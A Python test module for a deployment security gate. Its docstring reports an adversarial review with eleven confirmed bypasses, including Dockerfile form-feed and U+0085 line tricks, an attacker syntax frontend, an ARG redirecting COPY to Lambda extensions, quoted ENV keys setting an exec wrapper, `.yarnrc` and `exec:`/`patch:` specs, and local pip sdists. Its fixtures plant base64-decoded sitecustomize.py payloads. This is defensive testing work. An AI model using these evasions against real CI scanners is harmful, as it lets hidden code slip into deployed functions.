r"""A thirty-sixth hostile review of `gate check`, on the build-step readers review 35 fixed:
the Dockerfile reader (gate.bundle.discovery.dockerfile `_instructions`, `_frontend`,
`_resolved`, `_starting`), what a Node.js install and the Framework's `.env` do
(gate.bundle.discovery.npm), serverless-python-requirements' pip sources
(gate.bundle.manifests.requirements `local_source`, `from_bundle`) and samconfig's build
settings (gate.bundle.discovery.references `samconfig_build`, gate.bundle.rules `dir_rule`).

Each attack is a confirmed problem: the tricked bundle exits 0 with the hostile harness's
policy (checkov off), and a baseline shows the same bundle without the trick blocks:
bandit's B605 on the code the trick deploys, put where the gate reads it, or for 3 and 4
the same startup wrapper named in the template's environment (GATE-IAC-018). Without the
trick each Dockerfile, `.env` and `.yarnrc` below is refused too (a RUN step, a syntax
directive, `ENV AWS_LAMBDA_EXEC_WRAPPER`, `PATH` in `.env`, `yarn-path`). What the tools do
was checked where it could be had offline: BuildKit from its source (moby/buildkit
frontend/dockerfile: parser/parser.go, parser/directives.go, instructions/commands.go,
dockerfile2llb/convert.go); yarn 1.22.22 and yarn 4.5.0 (npm's registry) ran the bundle's
script (a marker file written); dotenv's `parse` (its LINE regex, run in node 20); pip
25 installed the wheel URL of 9c. What lets each through:

1. A continued line ended by a form feed. `_instructions` splits the Dockerfile with
   `str.splitlines()`, which also breaks lines at `\x0b`, `\x0c`, `\x1c`-`\x1e`, `\x85`,
   U+2028/U+2029, and joins a line ending in the escape character to the next; BuildKit
   splits at `\n` only (`scanLines`) and continues a line only when the escape is followed
   by spaces or tabs to the end (`lineContinuationRegex`: `\\[ \t]*$`). `LABEL note \`,
   a form feed, then `RUN ... > sitecustomize.py`: the gate reads one LABEL step,
   BuildKit a LABEL (whose value is `\`) and the RUN. (b) The same with U+0085.
2. A syntax directive after a line ended by a form feed. `_frontend` reads directives up
   to the first line that is not one, and Python sees an empty line between the form
   feed and the `\n`; BuildKit's `DirectiveParser` reads `# escape=\` + form feed as a
   directive (Go's `\s*$` takes the form feed) and goes on to
   `# syntax=docker.io/attacker/frontend:1`, a comment to the gate: the attacker's
   frontend builds the image.
3. `ARG LAMBDA_TASK_ROOT`. `_resolved` reads `${LAMBDA_TASK_ROOT}` as /var/task whatever
   the Dockerfile declares; BuildKit's `dispatchArg` adds an ARG with a value to the
   build state's environment (`d.state.AddEnv`), which a COPY's destination is expanded
   from (the image's config keeps /var/task). `ARG LAMBDA_TASK_ROOT=/opt/extensions` then
   `COPY wrap.sh ${LAMBDA_TASK_ROOT}/` makes wrap.sh an extension the runtime starts,
   running boot.txt (Python read as text). A `buildArgs`/`DockerBuildArgs` value for a
   bare `ARG LAMBDA_TASK_ROOT` would do the same.
4. An ENV key written with quotes or an escape. `_starting` finds keys by a regex over
   the text as written; BuildKit expands an ENV's key with the shell lexer as it does the
   value (instructions `expandKvp`), so `ENV "AWS_LAMBDA"_EXEC_WRAPPER=/var/task/wrap.sh`
   (no key found) and `ENV A\WS_LAMBDA_EXEC_WRAPPER=...` (a key `A\WS_...` of no known
   prefix) set AWS_LAMBDA_EXEC_WRAPPER in the image: the wrapper of 3 runs first.
5. A `.env` whose lines end in `\r`. `_ENVIRONMENT_LINE` matches at `^` with
   `re.MULTILINE`, which follows `\n` only; dotenv, the Framework's loader, first
   replaces `\r\n?` with `\n`. `APP_NAME=orders\rPATH=${PWD}/../tools:${PATH}\r` is
   `APP_NAME` to the gate and both variables to dotenv: review 35's 4a again (the plugin's
   `python3.12` is the bundle's tools/python3.12).
6. A `.env` variable of any name that pip's source is made of. `local_source` takes a
   value that is one variable (`${WHEELS}`, `${env:WHEELS}`) for the runner's
   environment; `.env` is the bundle's, and `WHEELS` is of no build program's namespace,
   so `WHEELS=${PWD}/../wheels` is not read. (a) requirements.txt `--find-links
   ${WHEELS}` with `--no-index` (pip expands `${NAME}` in a requirements file from its
   environment, which the plugin's spawn inherits), (b) `pipCmdExtraArgs: [--no-index,
   --find-links, '${env:WHEELS}']` (the Framework resolves it from the `.env`): six is the
   bundle's wheel.
7. More than one key on a `.yarnrc` line. `_yarnrc_keys` takes the first token of each
   line; yarn 1's lockfile parser reads on after a value (`parse`: a string token after a
   value is the next key) and gives one value to a comma-separated list of keys.
   (a) `registry "https://registry.yarnpkg.com" yarn-path "./tools/boot.js"` and
   (b) `"registry", "yarn-path" "./tools/boot.js"` are `registry` to the gate; yarn
   1.22.22 ran tools/boot.js for each (`yarn --version`).
8. Package specs that build from the bundle by other protocols. `local_spec` knows
   `file:`, `link:`, `portal:`, paths and tarball names. (a) yarn's
   `"orders-build": "exec:./tools/build.js"` runs the script to make the package (yarn
   4.5.0 ran it on `yarn install`); (b) yarn's `resolutions` `patch:...#./patches/x.patch`
   and (c) package.json's `pnpm.patchedDependencies` apply the bundle's patch to the
   Framework they install (documented behaviour, not run), which then writes the
   sitecustomize.py as `serverless package` starts. pnpm-workspace.yaml's
   `patchedDependencies` is refused; package.json's `pnpm` section is searched for local
   specs only (`_SECTIONS`).
9. A requirement of the disk that is not an archive by the gate's list. `from_bundle`
   refuses a local place only when it ends in `ARCHIVE_SUFFIXES` or is a VCS URL; the
   rest is GATE-DEP-001 "local path requirement", medium, which does not block.
   (a) `./libs/six`, a source folder: pip builds it, running its setup.py in the
   pipeline, which copies six.txt into the six.py it installs; (b)
   `./wheels/six-1.16.0.tar` (pip also installs `.tar`, `.tbz`, `.txz`, `.tlz`,
   `.tar.lz`, `.tar.lzma` sdists); (c) `six @ file://${PWD}/wheels/six-...whl#egg=six`
   (a fragment after the name: pip installed it).
10. samconfig's `cache_dir`. `_SAM_BUILD_SETTINGS` names what it refuses; `cached = true`
    with `cache_dir = ".aws-sam/cache2"` has `sam build` copy `.aws-sam/cache2/<uuid>/`
    (with `.aws-sam/build.toml`, as in review 35's 10) into the build, and `dir_rule`
    scans only `.aws-sam/cache` and `.aws-sam/deps` (`cache2` is `build-output`).
11. samconfig's `base_dir`. `sam build --base-dir` resolves every CodeUri from that
    folder: `base_dir = ".aws-sam/base"` builds `.aws-sam/base/src/` (ignored) in place of
    src/.

Suggested fixes, by class. 1 and 2: split and continue lines as BuildKit does (`\n` only,
a trailing `\r` dropped; a continuation is the escape then `[ \t]*` to the end; a
directive is `#`, Unicode space, then ASCII `\s`), or refuse a Dockerfile holding any
control character but `\t`, `\n`, `\r` or any Unicode line break. 3: an `ARG` (or build
argument) named `LAMBDA_TASK_ROOT`, or naming any variable a COPY's destination uses,
makes that destination unknown: not plain. 4: expand an ENV key with docker's shell
lexer (quotes and escapes) before judging it, or refuse a key that is not
`[A-Za-z_][A-Za-z0-9_]*` as written. 5: read `.env` as dotenv does (`\r\n?` to `\n`
first; JavaScript's `^` also follows U+2028/U+2029). 6: a pip source made of a variable
that a `.env*` of the service (or above it) sets is the bundle's: local; simpler, take
only the runner's variables the policy names as not the bundle's. 7: tokenize `.yarnrc`
as yarn's lockfile parser does and judge every key. 8: judge dependency specs by an
allow-list (a semver range or tag, `npm:` alias, https tarball, git URL); any other
protocol (`exec:`, `patch:`, and any a package manager adds) is a part the gate cannot
follow, and package.json's `pnpm` settings are judged by pnpm-workspace.yaml's
allow-list. 9: any requirement of the local disk (a path, a `file:` URL, a variable
path) is refused whatever it ends in, a URL's fragment and query taken off first: pip
builds a folder with its build backend (bundle code run in the pipeline) and installs
what it writes. 10 and 11: read samconfig by an allow-list (`stack_name`,
`capabilities`, `resolve_s3`, `parallel`, `cached`, `lint`, `warm_containers`...):
`cache_dir`, `base_dir`, `build_dir`, `docker_network` and any unknown key are parts the
gate cannot follow, or SAM's folders they name are scanned as the function's code.

Also tried, and the gate held: `// syntax=` on the first line and a Dockerfile that is
`{"syntax": ...}` (an instruction the gate does not know: refused); `#\r syntax=...`
(Python's second line is an unknown instruction: refused); `# escape=\` then
`# syntax=...` without the form feed (refused); `.yarnrc.yml` `<<: {yarnPath: ...}` (the
merge key read: refused); review 35's build cache in `.aws-sam/cache` (scanned: blocks);
the samconfig.toml `sam init` writes (`cached`, `parallel`, `warm_containers`, passes).

False refusals seen on realistic files: a direnv `.envrc` (`export
PATH=$PWD/node_modules/.bin:$PATH`) and a `.env.example` (`NPM_TOKEN=`) beside a service
are refused as `.env` files (`place.glob(".env*")`; the Framework loads only `.env` and
`.env.<stage>`, and `NPM_TOKEN` is no npm setting); a Dockerfile's
`ENV PYTHONPATH=${LAMBDA_TASK_ROOT}/vendor` (a folder of the scanned code) is refused;
a `.yarnrc.yml` with yarn 4.10's `npmMinimalAgeGate` (a supply-chain safeguard) is
refused as a setting not known to run nothing.

Not covered: diff mode (`_numbered_as_git`, the `Seen` severity), bandit anchors
(gate.pysource), `waiver-repeated` and `file_at_ref`/`baseline_at_ref` were not attacked
this time; `_in_bundle` compares a resolved path with the bundle's path as given (only a
warning either way, not run); `.env` lines broken by U+2028 (JavaScript's `^` follows
it, but dotenv's unquoted value swallows it; a quoted value ends first; not run); yarn's
`patch:` and pnpm's `patchedDependencies` were not run with the tools (the registry's
Framework to patch was not fetched).

Fixed, each by its class. 1 and 2, a Dockerfile holding control characters or
line breaks other than `\n` (a form feed, U+0085, a lone `\r`) is a step the gate cannot
follow: docker reads its lines otherwise. 3, `ARG` is judged as `ENV` is, and
`LAMBDA_*` is a startup name. 4, `ENV` and `ARG` words are read as docker reads them
(shlex: quotes and escapes taken off), and a key that is not a plain name is one the
gate cannot tell. 5, `.env` lines break at `\r` too. 6, a variable a `.env` sets that a
requirements file or the service names for pip (`${NAME}`, `${env:NAME}`) is a part the
gate cannot follow. 7, a `.yarnrc` line of more than one key is said whole. 8, yarn's
`exec:` and `patch:` are specs from the bundle, and package.json's `pnpm` settings are
judged by the pnpm-workspace.yaml allow-list (a `packageManager` fetched from a URL
too). 9b and 9c, `.tar` (and `.tbz`, `.txz`) are archives, and a fragment or query is
not part of the archive's name. 10 and 11, samconfig's `build`, `sync` and `global`
settings are read against an allow-list (`cache_dir`, `base_dir`, `build_dir` are
parts the gate cannot follow). The false refusals: only `.env` and `.env.<stage>` are
read (not `.envrc`), `NPM_TOKEN` is a credential, not a setting, `npmMinimalAgeGate` is
a harmless yarn setting, and `ENV PYTHONPATH` into the function's code folder is allowed.

9a, a local folder a requirement names is refused when its build may run code of the
bundle (gate.bundle.manifests.requirements `runs_a_build`): a `setup.py`, a backend the
gate does not know to only copy files (hatchling, flit, poetry-core, pdm, uv are), a
build hook, or no such folder in the bundle. A folder a plain backend builds stays a
local path requirement, not audited.
"""

from __future__ import annotations

import io
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.hostile.conftest import (
    Sandbox,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review26 import ENCODED, PLANTED, sam_function, wheel
from tests.hostile.test_review27 import CMD, FROM
from tests.hostile.test_review28 import WRITE_SITECUSTOMIZE, ecr_image, sam_zip
from tests.hostile.test_review31 import (
    HANDLER_PLANTED,
    planted,
    wrapped,
    wrapper_in_template,
)
from tests.hostile.test_review33 import DOTENV_SERVICE, requirements_service
from tests.hostile.test_review35 import (
    BUILD_TOML,
    CACHE_ID,
    FRONTEND,
    dotenv_path,
    node_service,
    pinned_six,
)

Layout = Callable[[Sandbox], None]
REGISTRY = "https://registry.yarnpkg.com"
RUN_PLANT = f"RUN echo {ENCODED} | base64 -d > ${{LAMBDA_TASK_ROOT}}/sitecustomize.py\n"

# --- 1. to 4. the Dockerfile read otherwise than BuildKit reads it --------------------------------


def continued_by(breaking: str) -> Layout:
    """A LABEL continued, to the gate, onto the RUN below it: the escape then `breaking`,
    a line break to Python and not to BuildKit."""

    def layout(sandbox: Sandbox) -> None:
        ecr_image(sandbox)
        sandbox.write("Dockerfile", f"{FROM}LABEL note \\{breaking}\n{RUN_PLANT}{CMD}")

    return layout


def syntax_after_form_feed(sandbox: Sandbox) -> None:
    ecr_image(sandbox)
    sandbox.write("Dockerfile", f"# escape=\\\x0c\n# syntax={FRONTEND}\n{FROM}{CMD}")


def task_root_argument(sandbox: Sandbox) -> None:
    wrapped(
        sandbox,
        FROM + "ARG LAMBDA_TASK_ROOT=/opt/extensions\nCOPY wrap.sh ${LAMBDA_TASK_ROOT}/\n" + CMD,
    )


def env_key(written: str) -> Layout:
    """The image's ENV sets the startup wrapper under a key `written` as the shell lexer
    reads it."""

    def layout(sandbox: Sandbox) -> None:
        wrapped(sandbox, f"{FROM}ENV {written}=/var/task/wrap.sh\n{CMD}")

    return layout


# --- 5. and 6. the Framework's .env, read otherwise ----------------------------------------------


def dotenv_carriage_returns(sandbox: Sandbox) -> None:
    dotenv_path(sandbox)
    sandbox.write("svc/.env", "APP_NAME=orders\rPATH=${PWD}/../tools:${PATH}\r")


def wheels_variable_in_requirements(sandbox: Sandbox) -> None:
    requirements_service(sandbox)
    sandbox.write("svc/.env", "WHEELS=${PWD}/../wheels\n")
    sandbox.write("svc/requirements.txt", "--no-index\n--find-links ${WHEELS}\nsix==1.16.0\n")


def wheels_variable_in_pip_arguments(sandbox: Sandbox) -> None:
    requirements_service(sandbox)
    sandbox.write("svc/.env", "WHEELS=${PWD}/../wheels\n")
    sandbox.write(
        "svc/serverless.yml",
        DOTENV_SERVICE.replace(
            "    dockerizePip: false\n",
            "    dockerizePip: false\n"
            "    pipCmdExtraArgs: ['--no-index', '--find-links', '${env:WHEELS}']\n",
        ),
    )


# --- 7. and 8. what a Node.js install runs -------------------------------------------------------


def yarnrc_line(line: str) -> Layout:
    def layout(sandbox: Sandbox) -> None:
        node_service(sandbox)
        sandbox.write(".yarnrc", line)
        sandbox.write("tools/boot.js", WRITE_SITECUSTOMIZE)

    return layout


def yarn_exec(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(
        "package.json",
        '{"name": "orders", "private": true, "packageManager": "yarn@4.5.0", '
        '"devDependencies": {"serverless": "^3.38.0", '
        '"orders-build": "exec:./tools/build.js"}}\n',
    )
    sandbox.write("tools/build.js", WRITE_SITECUSTOMIZE)


PATCH = (
    "--- a/lib/serverless.js\n+++ b/lib/serverless.js\n@@ -1 +1,2 @@\n"
    f"+{WRITE_SITECUSTOMIZE} 'use strict';\n"
)
"""A patch to the Framework that writes the sitecustomize.py as it starts."""


def yarn_patch(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(
        "package.json",
        '{"name": "orders", "private": true, "packageManager": "yarn@4.5.0", '
        '"devDependencies": {"serverless": "^3.38.0"}, "resolutions": '
        '{"serverless@npm:^3.38.0": '
        '"patch:serverless@npm%3A3.38.0#./patches/serverless.patch"}}\n',
    )
    sandbox.write("patches/serverless.patch", PATCH)


def pnpm_patch(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(
        "package.json",
        '{"name": "orders", "private": true, "devDependencies": {"serverless": "3.38.0"}, '
        '"pnpm": {"patchedDependencies": '
        '{"serverless@3.38.0": "patches/serverless@3.38.0.patch"}}}\n',
    )
    sandbox.write("patches/serverless@3.38.0.patch", PATCH)


# --- 9. a requirement of the disk that is no archive by the gate's list ---------------------------


def source_folder(sandbox: Sandbox) -> None:
    sam_function(sandbox, "./libs/six\n")
    sandbox.write(
        "libs/six/setup.py",
        "import shutil\n\nfrom setuptools import setup\n\nshutil.copy('six.txt', 'six.py')\n"
        "setup(name='six', version='1.16.0', py_modules=['six'])\n",
    )
    sandbox.write("libs/six/six.txt", PLANTED)


def sdist_tar() -> bytes:
    """A six 1.16.0 sdist, uncompressed, whose six.py runs a command."""
    buffer = io.BytesIO()
    files = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n",
        "setup.py": "from setuptools import setup\n\nsetup(name='six', py_modules=['six'])\n",
        "six.py": PLANTED,
    }
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"six-1.16.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def plain_tar(sandbox: Sandbox) -> None:
    sam_function(sandbox, "./wheels/six-1.16.0.tar\n")
    sandbox.write("wheels/six-1.16.0.tar", sdist_tar())


def wheel_with_fragment(sandbox: Sandbox) -> None:
    sam_function(sandbox, "six @ file://${PWD}/wheels/six-1.16.0-py3-none-any.whl#egg=six\n")
    sandbox.write("wheels/six-1.16.0-py3-none-any.whl", wheel())


# --- 10. and 11. samconfig's build folders -------------------------------------------------------


def sam_cache_dir(sandbox: Sandbox) -> None:
    sam_zip(sandbox)
    sandbox.write(
        "samconfig.toml",
        "version = 0.1\n\n[default.build.parameters]\ncached = true\n"
        'cache_dir = ".aws-sam/cache2"\n',
    )
    sandbox.write(".aws-sam/build.toml", BUILD_TOML)
    sandbox.write(f".aws-sam/cache2/{CACHE_ID}/app.py", HANDLER_PLANTED)


def sam_base_dir(sandbox: Sandbox) -> None:
    sam_zip(sandbox)
    sandbox.write(
        "samconfig.toml",
        'version = 0.1\n\n[default.build.parameters]\nbase_dir = ".aws-sam/base"\n',
    )
    sandbox.write(".aws-sam/base/src/app.py", HANDLER_PLANTED)


# The bundles without the tricks, each with the code a trick deploys where the gate reads
# it: (layout, the rule that blocks it).
BASELINES: dict[str, tuple[Layout, str]] = {
    "image": (planted(ecr_image, "sitecustomize.py"), "B605"),
    "startup": (wrapper_in_template, "GATE-IAC-018"),
    "requirements": (planted(requirements_service, "svc/six.py"), "B605"),
    "node": (planted(node_service, "sitecustomize.py"), "B605"),
    "sam": (planted(sam_zip, "src/app.py", HANDLER_PLANTED), "B605"),
    "wheel": (planted(pinned_six, "src/six.py"), "B605"),
}
# name: (its baseline, the tricked bundle, what lets it through)
TRICKS: dict[str, tuple[str, Layout, str]] = {
    "1a-continued-by-form-feed": (
        "image", continued_by("\x0c"), "_instructions splits lines at \\x0c; BuildKit at \\n"),
    "1b-continued-by-next-line": (
        "image", continued_by("\u0085"), "_instructions splits lines at U+0085; BuildKit at \\n"),
    "2-syntax-after-form-feed": (
        "image", syntax_after_form_feed, "_frontend stops at the empty line Python sees"),
    "3-arg-lambda-task-root": (
        "startup", task_root_argument, "_resolved ignores an ARG LAMBDA_TASK_ROOT"),
    "4a-env-key-quoted": (
        "startup", env_key('"AWS_LAMBDA"_EXEC_WRAPPER'), "_starting reads keys unexpanded"),
    "4b-env-key-escaped": (
        "startup", env_key("A\\WS_LAMBDA_EXEC_WRAPPER"), "_starting reads keys unexpanded"),
    "5-dotenv-carriage-returns": (
        "requirements", dotenv_carriage_returns, "_ENVIRONMENT_LINE's ^ follows \\n only"),
    "6a-dotenv-variable-in-requirements": (
        "requirements", wheels_variable_in_requirements,
        "local_source takes ${WHEELS} for the runner's"),
    "6b-dotenv-variable-in-pip-arguments": (
        "requirements", wheels_variable_in_pip_arguments,
        "local_source takes ${env:WHEELS} for the runner's"),
    "7a-yarnrc-second-key": (
        "node", yarnrc_line(f'registry "{REGISTRY}" yarn-path "./tools/boot.js"\n'),
        "_yarnrc_keys reads a line's first key"),
    "7b-yarnrc-key-list": (
        "node", yarnrc_line('"registry", "yarn-path" "./tools/boot.js"\n'),
        "_yarnrc_keys reads a line's first key"),
    "8a-yarn-exec-protocol": ("node", yarn_exec, "local_spec does not know exec:"),
    "8b-yarn-patch-protocol": ("node", yarn_patch, "local_spec does not know patch:"),
    "8c-pnpm-patched-dependencies": (
        "node", pnpm_patch, "package.json's pnpm settings are searched for local specs only"),
    "9a-requirement-source-folder": (
        "wheel", source_folder, "from_bundle refuses archives only; a folder is medium"),
    "9b-requirement-tar-sdist": (
        "wheel", plain_tar, ".tar is not in ARCHIVE_SUFFIXES"),
    "9c-requirement-wheel-fragment": (
        "wheel", wheel_with_fragment, "from_bundle reads the suffix before the #fragment"),
    "10-samconfig-cache-dir": (
        "sam", sam_cache_dir, "cache_dir is not in _SAM_BUILD_SETTINGS; dir_rule scans cache"),
    "11-samconfig-base-dir": (
        "sam", sam_base_dir, "base_dir is not in _SAM_BUILD_SETTINGS"),
}  # fmt: skip


def test_the_code_each_trick_deploys_blocks(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: the same bundle without the trick, the
    code it would deploy where the gate reads it, blocks."""
    each_blocks(tmp_path, BASELINES)


def test_code_the_deploy_runs_or_puts_in_is_scanned_or_refused(tmp_path: Path) -> None:
    """The deploy runs, or puts into a Python function, code the gate never read: the run
    must not pass."""

    each_blocked_or_refused(tmp_path, {trick: case[1] for trick, case in sorted(TRICKS.items())})


# --- false refusals: realistic files the new rules refuse -----------------------------------------


def envrc(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(".envrc", "export PATH=$PWD/node_modules/.bin:$PATH\nexport AWS_PROFILE=dev\n")


def env_example(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(".env.example", "STAGE=dev\nNPM_TOKEN=\nDATABASE_URL=postgres://localhost/app\n")


def python_path_in_code(sandbox: Sandbox) -> None:
    ecr_image(sandbox)
    sandbox.write(
        "Dockerfile",
        "FROM public.ecr.aws/lambda/python:3.12\nENV PYTHONPATH=${LAMBDA_TASK_ROOT}/vendor\n"
        f"COPY . ${{LAMBDA_TASK_ROOT}}/\n{CMD}",
    )


REALISTIC: dict[str, tuple[Layout, str]] = {
    "direnv-envrc": (envrc, "a direnv file the Framework never loads"),
    "env-example": (env_example, "a sample .env the Framework never loads"),
    "pythonpath-into-the-code": (python_path_in_code, "PYTHONPATH into the scanned code"),
}


@pytest.mark.parametrize("name", sorted(REALISTIC))
def test_realistic_files_are_not_refused(sandbox: Sandbox, name: str) -> None:
    """Files a real service holds, which make the build run nothing of the bundle: the
    clean bundle passes."""
    REALISTIC[name][0](sandbox)
    run = sandbox.run()
    assert run.code == 0, run.stderr
